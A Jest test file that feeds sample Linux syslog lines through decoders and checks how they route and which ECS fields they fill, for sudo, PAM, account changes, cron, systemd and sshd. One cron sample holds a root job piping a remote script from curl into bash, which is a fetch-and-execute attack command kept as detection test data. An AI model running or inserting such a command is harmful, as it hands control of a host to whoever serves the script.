import { ev, ecsTypeErrors, get, wazuhLines } from './support';

/**
 * The Linux decoders under decoders/linux/ on real lines, through the worker's own stages
 * (eventFromLine: syslog header parse, then every shipped decoder), so routing among all decoders
 * is part of what is tested. Lines without a PRI get <86> (authpriv.info) so the header parses.
 */
const pri = (line: string): string => (line.startsWith('<') ? line : `<86>${line}`);

describe('Wazuh ruleset test lines are claimed by the right Linux decoder', () => {
  const cases: Array<[string, string]> = [
    ['sudo.ini', 'linux-sudo'],
    ['su.ini', 'linux-su'],
    ['pam.ini', 'linux-pam'],
    ['sshd.ini', 'linux-sshd'],
    ['kernel_usb.ini', 'linux-kernel'],
    ['systemd.ini', 'linux-systemd'],
  ];
  it.each(cases)('%s → %s, ECS-typed, no decoder failure', (file, id) => {
    const lines = wazuhLines(file).filter((l) => !/^type=|: type=/.test(l));
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) {
      const e = ev(pri(line));
      expect({ line, id: get(e, 'haetae.decoder.id') }).toEqual({ line, id });
      expect(e.tags ?? []).not.toContain('haetae_decoder_failure');
      expect({ line, wrong: ecsTypeErrors(e) }).toEqual({ line, wrong: [] });
      expect(String(get(e, 'event.dataset'))).toMatch(/^linux\./);
    }
  });
});

describe('sudo', () => {
  it('a command run as root', () => {
    const e = ev('<86>Apr 27 15:22:23 niban sudo:     dcid : TTY=pts/4 ; PWD=/home/dcid ; USER=root ; COMMAND=/usr/bin/tail /var/log/snort/alert.fast');
    expect(get(e, 'event.dataset')).toBe('linux.sudo');
    expect(get(e, 'event.module')).toBe('linux');
    expect(get(e, 'event.action')).toBe('sudo_command');
    expect(get(e, 'event.outcome')).toBe('success');
    expect(get(e, 'user.name')).toBe('dcid');
    expect(get(e, 'user.effective.name')).toBe('root');
    expect(get(e, 'system.auth.sudo.command')).toBe('/usr/bin/tail /var/log/snort/alert.fast');
    expect(get(e, 'system.auth.sudo.tty')).toBe('pts/4');
    expect(get(e, 'system.auth.sudo.pwd')).toBe('/home/dcid');
    expect(get(e, 'related.user')).toEqual(['dcid', 'root']);
    // The syslog header is untouched: process.* is sudo itself.
    expect(get(e, 'process.name')).toBe('sudo');
    expect(get(e, 'host.hostname')).toBe('niban');
  });

  it('user NOT in sudoers and incorrect password attempts are failures', () => {
    const denied = ev('<85>Apr 13 08:36:31 ix sudo:     ddp2 : user NOT in sudoers ; TTY=ttypZ ; PWD=/home/ddp2 ; USER=root ; COMMAND=/bin/ls');
    expect(get(denied, 'event.action')).toBe('sudo_command_denied');
    expect(get(denied, 'event.outcome')).toBe('failure');
    expect(get(denied, 'event.reason')).toBe('user NOT in sudoers');
    const wrong = ev('<85>Jun 25 16:15:45 precise32 sudo:     mike : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/ls');
    expect(get(wrong, 'event.action')).toBe('sudo_auth_failure');
    expect(get(wrong, 'event.category')).toEqual(['authentication']);
    expect(get(wrong, 'system.auth.sudo.attempts')).toBe(3);
  });

  it("sudo's PAM lines go to linux-pam, keeping process.name sudo", () => {
    const e = ev('<86>Dec  3 10:00:00 web1 sudo[2231]: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)');
    expect(get(e, 'haetae.decoder.id')).toBe('linux-pam');
    expect(get(e, 'event.dataset')).toBe('linux.pam');
    expect(get(e, 'event.action')).toBe('session_opened');
    expect(get(e, 'user.name')).toBe('root');
    expect(get(e, 'user.id')).toBe('0');
    expect(get(e, 'system.auth.pam.by_user')).toBe('alice');
    expect(get(e, 'process.name')).toBe('sudo');
  });
});

describe('su and pam_unix(su:auth)', () => {
  it('util-linux success and failure', () => {
    const ok = ev('<86>Dec  3 10:00:00 web1 su[991]: (to root) alice on pts/0');
    expect([get(ok, 'event.outcome'), get(ok, 'user.name'), get(ok, 'user.effective.name')]).toEqual(['success', 'alice', 'root']);
    const bad = ev('<85>Dec  3 10:00:00 web1 su[992]: FAILED SU (to root) mallory on pts/1');
    expect([get(bad, 'event.action'), get(bad, 'event.outcome'), get(bad, 'user.name')]).toEqual(['su_failed', 'failure', 'mallory']);
  });

  it('pam_unix(su:auth) authentication failure: user is the target, uid the requester', () => {
    const e = ev('<85>Dec  3 10:00:03 web1 su[991]: pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=root');
    expect(get(e, 'event.dataset')).toBe('linux.pam');
    expect(get(e, 'event.outcome')).toBe('failure');
    expect(get(e, 'system.auth.pam.service')).toBe('su');
    expect(get(e, 'user.name')).toBe('root');
    expect(get(e, 'user.id')).toBeUndefined();
    expect(get(e, 'system.auth.pam.uid')).toBe('1000');
    expect(get(e, 'system.auth.pam.ruser')).toBe('alice');
    expect(get(e, 'source.ip')).toBeUndefined();
  });

  it('pam authentication failure with a remote host fills source.ip and related.ip', () => {
    const e = ev('<85>Dec  3 10:00:03 ftp1 vsftpd[77]: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=anonymous rhost=198.51.100.23');
    expect(get(e, 'source.ip')).toBe('198.51.100.23');
    expect(get(e, 'related.ip')).toContain('198.51.100.23');
    // The syslog sender is log.source.address, never source.ip.
    expect(get(e, 'log.source.address')).toBe('127.0.0.1');
  });
});

describe('account management (shadow-utils)', () => {
  it('useradd new user: iam / user / creation, user.target.*', () => {
    const e = ev('<86>Dec 21 17:13:54 testserver useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash');
    expect(get(e, 'event.dataset')).toBe('linux.useradd');
    expect(get(e, 'event.category')).toEqual(['iam']);
    expect(get(e, 'event.type')).toEqual(['user', 'creation']);
    expect(get(e, 'user.target.name')).toBe('john');
    expect(get(e, 'user.target.id')).toBe('0');
    expect(get(e, 'group.id')).toBe('0');
    expect(get(e, 'system.auth.useradd.shell')).toBe('/bin/bash');
    expect(get(e, 'related.user')).toEqual(['john']);
    expect(ecsTypeErrors(e)).toEqual([]);
  });

  it.each([
    ['<86>Dec  3 10:00:00 h useradd[1]: new group: name=devs, GID=1002', 'group_created', ['group', 'creation'], 'group.name', 'devs'],
    ["<86>Dec  3 10:00:00 h usermod[1]: add 'mallory' to group 'sudo'", 'user_added_to_group', ['group', 'change'], 'group.name', 'sudo'],
    ["<86>Dec  3 10:00:00 h userdel[1]: delete user 'bob'", 'user_deleted', ['user', 'deletion'], 'user.target.name', 'bob'],
    ['<86>Dec  3 10:00:00 h groupadd[1]: group added to /etc/group: name=devs, GID=1002', 'group_created', ['group', 'creation'], 'group.id', '1002'],
    ["<86>Dec  3 10:00:00 h groupdel[1]: group 'devs' removed", 'group_deleted', ['group', 'deletion'], 'group.name', 'devs'],
    ["<86>Dec  3 10:00:00 h passwd[1]: password for 'bob' changed by 'root'", 'password_changed', ['user', 'change'], 'user.target.name', 'bob'],
    ['<86>Dec  3 10:00:00 h chpasswd[1]: pam_unix(chpasswd:chauthtok): password changed for svc', 'password_changed', ['user', 'change'], 'user.target.name', 'svc'],
    ['<86>Dec  3 10:00:00 h gpasswd[1]: user bob added by root to group sudo', 'user_added_to_group', ['group', 'change'], 'user.target.name', 'bob'],
  ])('%s', (line, action, type, field, value) => {
    const e = ev(line);
    expect(get(e, 'event.action')).toBe(action);
    expect(get(e, 'event.category')).toEqual(['iam']);
    expect(get(e, 'event.type')).toEqual(type);
    expect(get(e, field)).toBe(value);
    expect(ecsTypeErrors(e)).toEqual([]);
  });
});

describe('cron', () => {
  it('CRON (user) CMD (command)', () => {
    const e = ev('<78>Dec  3 10:00:01 web1 CRON[2211]: (root) CMD (curl -s http://198.51.100.7/x.sh | bash)');
    expect(get(e, 'event.dataset')).toBe('linux.cron');
    expect(get(e, 'event.action')).toBe('cron_job');
    expect(get(e, 'user.name')).toBe('root');
    expect(get(e, 'system.cron.command')).toBe('curl -s http://198.51.100.7/x.sh | bash');
    expect(get(e, 'process.name')).toBe('CRON');
  });

  it('crontab REPLACE is a configuration change; pseudo-users are not user.name', () => {
    const e = ev('<78>Dec  3 10:00:01 web1 crontab[4242]: (www-data) REPLACE (www-data)');
    expect([get(e, 'event.action'), get(e, 'event.category'), get(e, 'user.name')]).toEqual(['crontab_replaced', ['configuration'], 'www-data']);
    const sys = ev('<78>Dec  3 10:00:01 web1 crond[88]: (*system*) RELOAD (/etc/crontab)');
    expect(get(sys, 'user.name')).toBeUndefined();
  });
});

describe('systemd units', () => {
  it('Started / Stopped / Failed / Main process exited', () => {
    const started = ev('<30>Dec  3 10:00:02 web1 systemd[1]: Started nginx.service - A high performance web server and a reverse proxy server.');
    expect([get(started, 'event.action'), get(started, 'systemd.unit'), get(started, 'event.type')]).toEqual(['unit_started', 'nginx.service', ['start']]);
    const stopped = ev('<30>Dec  3 10:00:02 web1 systemd[1]: Stopped ufw.service - Uncomplicated firewall.');
    expect([get(stopped, 'event.action'), get(stopped, 'systemd.unit')]).toEqual(['unit_stopped', 'ufw.service']);
    const exited = ev('<30>Dec  3 10:00:02 web1 systemd[1]: nginx.service: Main process exited, code=exited, status=1/FAILURE');
    expect([get(exited, 'event.outcome'), get(exited, 'systemd.exit.status'), get(exited, 'systemd.exit.status_name')]).toEqual(['failure', 1, 'FAILURE']);
    expect(get(exited, 'process.pid')).toBe(1); // process.* stays systemd itself
    const failed = ev("<27>Dec  3 10:00:02 web1 systemd[1]: nginx.service: Failed with result 'exit-code'.");
    expect([get(failed, 'event.action'), get(failed, 'event.reason')]).toEqual(['unit_failed', 'exit-code']);
    for (const e of [started, stopped, exited, failed]) expect(ecsTypeErrors(e)).toEqual([]);
  });
});

describe('systemd-logind', () => {
  it('a user session starts and ends', () => {
    const start = ev('<38>Dec  3 10:00:02 web1 systemd-logind[612]: New session 12 of user alice.');
    expect([get(start, 'event.dataset'), get(start, 'event.action'), get(start, 'user.name'), get(start, 'systemd.session.id')]).toEqual(['linux.systemd_logind', 'session_opened', 'alice', '12']);
    const end = ev('<38>Dec  3 10:09:02 web1 systemd-logind[612]: Removed session 12.');
    expect([get(end, 'event.type'), get(end, 'systemd.session.id')]).toEqual([['end'], '12']);
    for (const e of [start, end]) expect(ecsTypeErrors(e)).toEqual([]);
  });
});

describe('kernel', () => {
  it('segfault names the crashing process; netfilter lines are not claimed by linux-kernel', () => {
    const e = ev('<4>Dec  3 10:00:00 web1 kernel: [ 3529.289825] traffic_server[1234]: segfault at 0 ip 00007f3c5b2e1a2b sp 00007ffd7f0c2e40 error 4 in libc-2.31.so[7f3c5b1b6000+178000]');
    expect([get(e, 'event.action'), get(e, 'process.name'), get(e, 'process.pid')]).toEqual(['segfault', 'traffic_server', 1234]);
    expect(get(e, 'log.syslog.appname')).toBe('kernel');
    const fw = ev('<4>Feb  4 23:33:37 hostname kernel: [ 3529.289825] [UFW BLOCK] IN=eth0 OUT= MAC=00:11:22:33:44:55:66:77:88:99:aa:bb:cc:dd SRC=203.0.113.1 DST=192.0.2.1 LEN=103 TOS=0x00 PREC=0x00 TTL=52 ID=0 DF PROTO=UDP SPT=53 DPT=36427 LEN=83');
    expect(get(fw, 'haetae.decoder.id')).not.toBe('linux-kernel');
  });
});

describe('sshd without a syslog header', () => {
  it('a bare line is claimed through contains', () => {
    const e = ev('Failed password for invalid user admin from 198.51.100.23 port 40022 ssh2');
    expect(get(e, 'event.dataset')).toBe('linux.sshd');
    expect([get(e, 'event.outcome'), get(e, 'user.name'), get(e, 'source.ip'), get(e, 'source.port')]).toEqual(['failure', 'admin', '198.51.100.23', 40022]);
  });

  it('a line whose header the parser did not take (ISO time, no PRI) is still read', () => {
    const e = ev('2020-03-23 08:14:02.777660-0700  localhost sshd[8981]: error: PAM: authentication error for illegal user badguy from 192.168.33.1');
    expect([get(e, 'event.action'), get(e, 'user.name'), get(e, 'source.ip')]).toEqual(['ssh_login', 'badguy', '192.168.33.1']);
    // The program and pid of the unparsed header fill process.* (the SigmaHQ sshd condition).
    expect([get(e, 'process.name'), get(e, 'process.pid')]).toEqual(['sshd', 8981]);
  });
});
